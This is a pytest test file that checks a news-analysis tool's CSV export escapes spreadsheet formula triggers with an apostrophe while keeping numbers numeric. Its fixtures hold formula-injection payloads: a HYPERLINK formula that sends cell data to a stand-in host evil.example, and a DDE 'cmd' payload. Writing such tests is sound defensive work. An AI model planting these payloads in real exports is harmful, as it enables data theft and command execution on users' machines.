"""CSV export: text that a spreadsheet would run as a formula is made literal, numbers stay numbers."""

from __future__ import annotations

import csv
from pathlib import Path

import pytest

from wiretrace.model import Article, ArticleFacts, Claim, Entity, Quote, Span, Story
from wiretrace.present import export
from wiretrace.present.dossier import Dossier

AID = "eeee000000000005"
# Every trigger a spreadsheet treats as the start of a formula, in article-derived fields.
HOSTILE_TEXT = (
    "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\") said the post.\n"
    "+1+cmd|' /C calc'!A0 was shared widely.\n"
    "Temperatures fell to -12 degrees and 3 ferries were cancelled.\n"
)


def phrase_span(text: str, phrase: str) -> Span:
    start = text.index(phrase)
    return Span(AID, start, start + len(phrase))


def hostile_dossier() -> Dossier:
    article = Article(
        id=AID, source="in/evil.jsonl:1", input_format="jsonl", raw=HOSTILE_TEXT, text=HOSTILE_TEXT,
        text_hash="h", title="=1+2", outlet="@SUM(A1:A9)", author="-Mallory", url="\thttp://evil.example",
        published="2025-01-15", language="en",
    )
    quote_text = "+1+cmd|' /C calc'!A0"
    facts = ArticleFacts(
        article_id=AID,
        quotes=[Quote(phrase_span(HOSTILE_TEXT, quote_text), quote_text, "indirect", speaker_name="\r=evil()")],
        claims=[Claim(phrase_span(HOSTILE_TEXT, "-12 degrees"), "-12", -12.0, value_max=-3.5, counted="degrees",
                      unit_class="other", asserter_name="@evil")],
    )
    return Dossier(
        title="Hostile", generated_at="2025-02-01T00:00:00+00:00", articles=[article], facts={AID: facts},
        entities=[Entity("person:mallory", "-Mallory", "PERSON", ["=Mallory"], {AID: 1})], duplicate_groups=[],
        stories=[Story("story-1", "=cmd story", [AID], outlets=["@SUM(A1:A9)"])],
    )


@pytest.fixture(scope="module")
def tables(tmp_path_factory: pytest.TempPathFactory) -> dict[str, list[dict[str, str]]]:
    out = tmp_path_factory.mktemp("csv")
    paths = export.write_csv(hostile_dossier(), out)
    return {p.stem: list(csv.DictReader(p.open(encoding="utf-8", newline=""))) for p in paths}


def test_no_text_cell_starts_like_a_formula(tables: dict[str, list[dict[str, str]]]) -> None:
    cells = [value for rows in tables.values() for row in rows for value in row.values()]
    assert cells
    risky = [c for c in cells if c.startswith(export.FORMULA_STARTS) and not is_number(c)]
    assert risky == []


def test_hostile_text_is_kept_behind_one_apostrophe(tables: dict[str, list[dict[str, str]]]) -> None:
    [article] = tables["articles"]
    assert article["title"] == "'=1+2"
    assert article["outlet"] == "'@SUM(A1:A9)"
    assert article["author"] == "'-Mallory"
    assert article["url"] == "'\thttp://evil.example"
    assert article["text"] == "'" + HOSTILE_TEXT
    [quote] = tables["quotes"]
    assert quote["text"] == quote["span_text"] == "'+1+cmd|' /C calc'!A0"
    assert quote["speaker_name"] == "'\r=evil()"
    [entity] = tables["entities"]
    assert (entity["name"], entity["aliases"]) == ("'-Mallory", "'=Mallory")
    [story] = tables["stories"]
    assert (story["label"], story["outlets"]) == ("'=cmd story", "'@SUM(A1:A9)")


def test_number_cells_stay_numbers(tables: dict[str, list[dict[str, str]]]) -> None:
    [claim] = tables["claims"]
    assert (claim["value"], claim["value_max"]) == ("-12.0", "-3.5")  # numbers, not text
    assert claim["value_text"] == "'-12"  # the surface form is article text
    assert claim["span_text"] == "'-12 degrees" and claim["asserter_name"] == "'@evil"
    assert tables["articles"][0]["published"] == "2025-01-15"  # plain text is left alone


def is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True
